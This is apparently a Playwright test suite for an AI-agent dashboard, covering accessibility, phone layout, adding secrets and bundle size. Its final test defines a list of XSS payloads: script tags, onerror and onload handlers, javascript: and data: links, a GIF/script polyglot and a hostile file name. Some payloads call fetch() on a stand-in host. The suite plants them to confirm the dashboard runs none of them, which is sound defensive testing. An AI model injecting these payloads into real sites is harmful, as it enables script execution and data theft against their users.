import assert from "node:assert/strict"
import { before, test } from "node:test"
import axe from "axe-core"
import type { Locator, Page } from "playwright-core"
import { until } from "../test/until.ts"
import { DESKTOP, PHONE, type TestPage } from "./browser.ts"
import { startDashboard } from "./dashboard.ts"
import { PAGES, signIn } from "./dashboard-pages.ts"
import { firstLoadKb } from "./first-load.ts"
import { seed } from "./seed.ts"
import { uploadSkill } from "./upload-skill.ts"

const RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]

/** The browser has drawn what was changed. */
const TWO_FRAMES = "new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))"

const { server, browser } = await startDashboard()
before(() => seed(server))

interface Violation {
  id: string
  help: string
  nodes: { html: string; failureSummary: string }[]
}

/** What axe finds in the page as it stands. The debugger's own channel runs it: the page's policy would refuse it. */
async function violations({ page }: TestPage): Promise<string[]> {
  if (!(await page.evaluate<boolean>("'axe' in window"))) await page.evaluate(axe.source)
  const found = await page.evaluate<Violation[]>(
    `axe.run(document, { runOnly: ${JSON.stringify(RULES)} }).then((result) => result.violations)`,
  )
  return found.map(({ id, help, nodes }) => `${id}: ${help}: ${nodes[0]?.html} ${nodes[0]?.failureSummary}`)
}

interface Overlay {
  name: string
  path: string
  open(page: Page): Promise<void>
  seen(page: Page): Locator
}
const click = (name: string) => (page: Page) => page.getByRole("button", { name }).first().click()
const dialog = (page: Page) => page.getByRole("dialog")
const OVERLAYS: readonly Overlay[] = [
  { name: "image", path: "/u/ada/chat/manager/chart", open: click("Enlarge attached image"), seen: dialog },
  { name: "skill", path: "/u/ada/skills", open: click("Read weekly-report"), seen: dialog },
  { name: "new user", path: "/admin/users", open: click("New user"), seen: dialog },
  { name: "confirmation", path: "/u/ada/agents/manager/keys", open: click("Rotate key"), seen: dialog },
  { name: "typed confirmation", path: "/u/ada/agents/manager/settings", open: click("Delete agent"), seen: dialog },
  { name: "new file", path: "/u/ada/agents/manager/files", open: click("New file"), seen: dialog },
  {
    name: "account menu",
    path: "/u/ada/agents",
    open: click("Account menu"),
    seen: (page) => page.getByRole("menuitem", { name: "Sign out", exact: true }),
  },
  {
    name: "accounts",
    path: "/u/ada/agents",
    open: click("switch to another"),
    seen: (page) => page.getByRole("dialog").getByRole("link", { name: "grace" }),
  },
]

test("axe finds no violation on any page in either theme, and none is wider than a phone", async () => {
  const tab = await browser.open()
  const { page } = tab
  const found: string[] = []
  const look = async (name: string) => {
    for (const colorScheme of ["light", "dark"] as const) {
      await page.emulateMedia({ colorScheme, reducedMotion: "reduce" })
      await page.locator(`html[data-mantine-color-scheme="${colorScheme}"]`).waitFor({ state: "attached" })
      // A colour may still be on its way from one theme to the other: what stays is what counts.
      let last: string[] = []
      const clean = async () => {
        last = await violations(tab)
        return last.length === 0
      }
      await until(clean, "axe finds nothing", 2500).catch(() => {
        for (const text of last) found.push(`${name}, ${colorScheme}: ${text}`)
      })
    }
    await page.setViewportSize(PHONE)
    const fits = () => page.evaluate<boolean>("document.documentElement.scrollWidth <= innerWidth")
    await until(fits, "it fits", 2000).catch(() => found.push(`${name} is wider than a phone`))
    await page.setViewportSize(DESKTOP)
  }
  await page.goto("/")
  await page.getByLabel("API key", { exact: true }).waitFor()
  await look("sign-in")
  await signIn(page, server.adminKey)
  const goTo = (path: string) => page.evaluate(`history.pushState(null, "", ${JSON.stringify(path)})`)
  for (const { name, path, ready } of PAGES) {
    // Within the page, as a link would lead there.
    await goTo(path)
    await ready(page).waitFor()
    await look(name)
  }
  await goTo("/welcome")
  await page.getByLabel("Your name").waitFor()
  await look("welcome")
  await goTo("/nowhere")
  await page.getByText("Page not found").waitFor()
  await look("page not found")
  // What opens over a page.
  for (const { name, path, open, seen } of OVERLAYS) {
    await goTo(path)
    await open(page)
    await seen(page).waitFor()
    await look(name)
    await page.keyboard.press("Escape")
    await seen(page).waitFor({ state: "detached" })
  }
  await goTo("/admin/users/ada")
  await page.getByRole("button", { name: "View as this user" }).click()
  await page.getByRole("dialog").getByRole("button", { name: "View as this user" }).click()
  await page.getByText("You are viewing this account as ada").waitFor()
  await page.getByLabel("Message").waitFor()
  await look("viewing as a user")
  await page.getByRole("button", { name: "Back to admin" }).click()
  await page.getByRole("heading", { name: "Budgets" }).waitFor()
  await page.getByLabel("Tier").selectOption("free")
  await page.getByRole("link", { name: "Secrets" }).click()
  await page.getByRole("dialog", { name: "Leave without saving?" }).waitFor()
  await look("unsaved changes")
  await page.getByRole("button", { name: "Stay" }).click()
  await page.route("**/sign-in-link", (route) => route.abort())
  await page.getByRole("button", { name: "Create sign-in link" }).click()
  await page.getByRole("alert").filter({ hasText: "Something went wrong" }).waitFor()
  await look("an error that comes by itself")
  await page.unroute("**/sign-in-link")
  await tab.context.clearCookies()
  await page.getByRole("button", { name: "Create sign-in link" }).click()
  await page.getByText("What you typed is kept").waitFor()
  await look("a sign-in that ended over unsaved changes")
  assert.deepEqual(found, [])
  assert.deepEqual(tab.faults, [])
})

test("on a phone the chosen tab is in sight, and a list of changes is read without scrolling sideways", async () => {
  const { page } = await browser.open({ viewport: PHONE })
  await signIn(page, server.adminKey)
  for (const path of ["/u/ada/agents/manager/logs", "/admin/audit", "/admin/users"]) {
    await page.goto(path)
    const tab = page.getByRole("tab", { selected: true })
    await tab.waitFor()
    const box = async () => {
      const { x = -1, width = 0 } = (await tab.boundingBox()) ?? {}
      return x >= 0 && x + width <= PHONE.width
    }
    await until(box, `the tab of ${path} is in sight`)
  }
  for (const [path, name] of [
    ["/admin/audit", "Audit log"],
    ["/u/ada/account", "Audit log"],
    ["/admin/users", "Users"],
  ] as const) {
    await page.goto(path)
    const table = page.getByRole("region", { name })
    await table.getByRole("row").nth(1).waitFor()
    assert.ok(await table.evaluate((element) => element.scrollWidth <= element.clientWidth), path)
  }
})

test("a secret that a skill is missing is one click and its value away", async () => {
  const { page } = await browser.open()
  await signIn(page, server.adminKey, "/u/ada/skills")
  await page.getByText("Missing: REPORT_TOKEN").waitFor()
  await page.getByRole("link", { name: "Add REPORT_TOKEN" }).click()
  assert.equal(await page.getByLabel("Name 1", { exact: true }).inputValue(), "REPORT_TOKEN")
  // Nothing was typed yet: leaving loses nothing.
  await page.getByRole("link", { name: "Skills" }).click()
  await page.getByRole("link", { name: "Add REPORT_TOKEN" }).click()
  await page.getByLabel("Value 1").fill("a token for reports")
  await page.getByRole("button", { name: "Save all" }).click()
  await page.getByRole("cell", { name: "REPORT_TOKEN", exact: true }).waitFor()
  await page.getByRole("link", { name: "Skills" }).click()
  await page.getByText("active", { exact: true }).waitFor()
  assert.equal((await server.call("DELETE", "/users/ada/secrets/REPORT_TOKEN")).status, 204)
})

test("what a browser loads first is at most 350 KB of gzipped JavaScript", async () => {
  const size = await firstLoadKb()
  assert.ok(size > 50 && size <= 350, `${size} KB`)
})

/** What would tell on itself if it ran: by a dialog, by a mark on the page, or by asking another machine. */
const SCRIPT = "window.ran=1;alert(1);fetch('http://198.51.100.7/')"
const HOSTILE = [
  `<img src=x onerror="${SCRIPT}">`,
  `<script>${SCRIPT}</script>`,
  `<svg onload="${SCRIPT}"><a xlink:href="javascript:${SCRIPT}">x</a></svg>`,
  `[click](javascript:${SCRIPT})`,
  `[click](data:text/html,<script>${SCRIPT}</script>)`,
  `![picture](http://198.51.100.7/pixel.png)`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<a href="jAvAsCrIpT:${SCRIPT}">x</a><style>@import 'http://198.51.100.7/x.css'</style>`,
  "```html\n<img src=x onerror=alert(1)>\n```",
  `<form action="http://198.51.100.7/"><button autofocus onfocus="${SCRIPT}">x</button></form>`,
].join("\n\n")
const FILE_NAME = "<img src=x onerror=alert(1)>.txt"

test("hostile texts, names and files run nothing, and nothing leaves the machine", async () => {
  const user = "mallory"
  const agent = `/users/${user}/agents/bad`
  const made = async (method: string, path: string, body: unknown) => {
    const answer = await server.call(method, path, body)
    assert.ok(answer.status < 300, `${path}: ${answer.status} ${JSON.stringify(answer.body)}`)
  }
  await made("POST", "/users", { user, display_name: HOSTILE.slice(0, 190), tier: "pro" })
  await made("POST", `/users/${user}/agents`, {
    name: "bad",
    description: HOSTILE.slice(0, 900),
    templates: { "SOUL.md": HOSTILE },
  })
  const file = `${agent}/files`
  await made("PUT", `${file}/${encodeURIComponent(FILE_NAME)}`, HOSTILE)
  await made("PUT", `${file}/page.html`, `<h1>page</h1><script>${SCRIPT}</script>`)
  await made("PUT", `${file}/drawing.svg`, `<svg xmlns="http://www.w3.org/2000/svg"><script>${SCRIPT}</script></svg>`)
  await made("PUT", `${file}/notes.md`, HOSTILE)
  const echo = `/tool bash {"command":"cat notes.md"}`
  await made("POST", `${agent}/chat`, { session: "s", messages: [{ role: "user", content: `${HOSTILE}\n\n${echo}` }] })
  // A picture for who reads its first bytes, a page for a browser that guesses.
  const picture = Buffer.from(`GIF89a/*<script>${SCRIPT}</script><svg onload="${SCRIPT}">*/`).toString("base64")
  const content = [
    { type: "text", text: HOSTILE },
    { type: "image", mime_type: "image/gif", data: picture },
  ]
  await made("POST", `${agent}/chat`, { session: "picture", messages: [{ role: "user", content }] })
  const stored = (await server.call("GET", `${agent}/sessions/picture`)).body.messages[0]
  const image = `${agent}/sessions/picture/messages/${stored.id}/images/${stored.content[1].hash}`
  const skill = `---\nname: bad\ndescription: ${JSON.stringify(HOSTILE.slice(0, 700))}\n---\n${HOSTILE}\n`
  assert.equal((await uploadSkill(server, { user, skill: "bad" }, skill)).status, 201)

  const { page, context, faults } = await browser.open()
  const dialogs: string[] = []
  context.on("dialog", (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await signIn(page, server.adminKey)
  const paths: readonly [string, string][] = [
    ["chat/bad/picture", "onerror"],
    ["agents/bad/keys", "Rotate key"],
    ["agents/bad/settings", "Behaviour"],
    ["agents/bad/connect", "online"],
    ["agents/bad/logs", "bash"],
    ["secrets", "Add secrets"],
    ["usage", "Forecast"],
    ["defaults", "Who the agent is"],
    [`logs?q=${encodeURIComponent(HOSTILE.slice(0, 300))}`, "No lines match"],
    [`skills?q=${encodeURIComponent("<img src=x onerror=alert(1)>")}`, "onerror"],
    ["/admin/users?q=onerror", "onerror"],
    ["/admin/users/mallory", "onerror"],
    ["/admin/audit", "file:mallory/bad"],
    ["/admin/logs", "platform"],
    ["agents", "onerror"],
    ["agents/bad/templates", "Who the agent is"],
    [`agents/bad/files?path=${encodeURIComponent(FILE_NAME)}`, "onerror"],
    ["agents/bad/files?path=page.html", "<h1>"],
    ["agents/bad/files?path=drawing.svg", "svg"],
    ["agents/bad/files?path=notes.md", "onerror"],
    ["skills", "onerror"],
    ["logs", "bash"],
    ["account", "onerror"],
    ["chat/bad/s", "onerror"],
  ]
  for (const [path, text] of paths) {
    await page.goto(path.startsWith("/") ? path : `/u/${user}/${path}`)
    await page.getByText(text).first().waitFor()
    await page.evaluate(TWO_FRAMES)
    assert.equal(await page.evaluate<unknown>("window.ran"), undefined, path)
  }
  await page.goto(`/u/${user}/skills`)
  await page.getByRole("button", { name: "Read bad" }).click()
  await page.getByRole("dialog").getByText("onerror").first().waitFor()
  assert.equal(await page.locator("[role=dialog] iframe, [role=dialog] script, [role=dialog] form").count(), 0)
  await page.goto(`/u/${user}/chat/bad/s`)
  await page.getByText("onerror").first().waitFor()
  // Everything in the conversation that can be opened or followed, once its Markdown is read.
  for (const summary of await page.locator("main summary").all()) await summary.click()
  await page.getByRole("link", { name: "picture" }).waitFor()
  for (const link of await page.locator("main article a").all()) {
    const href = (await link.getAttribute("href")) ?? ""
    assert.match(href, /^(https?:|mailto:|\/u\/)/, `a link that is no address: ${href}`)
  }
  assert.equal(await page.locator("main iframe, main script, main form[action], main style").count(), 0)
  // Opened directly, as from a bookmark.
  for (const name of [`${file}/page.html`, `${file}/drawing.svg`, `${file}/notes.md`, image]) {
    const direct = await context.newPage()
    await direct.goto(`/api/v1${name}`)
    assert.equal(await direct.evaluate("window.ran"), undefined, name)
    await direct.close()
  }
  assert.deepEqual(dialogs, [])
  assert.deepEqual(faults, [])
})
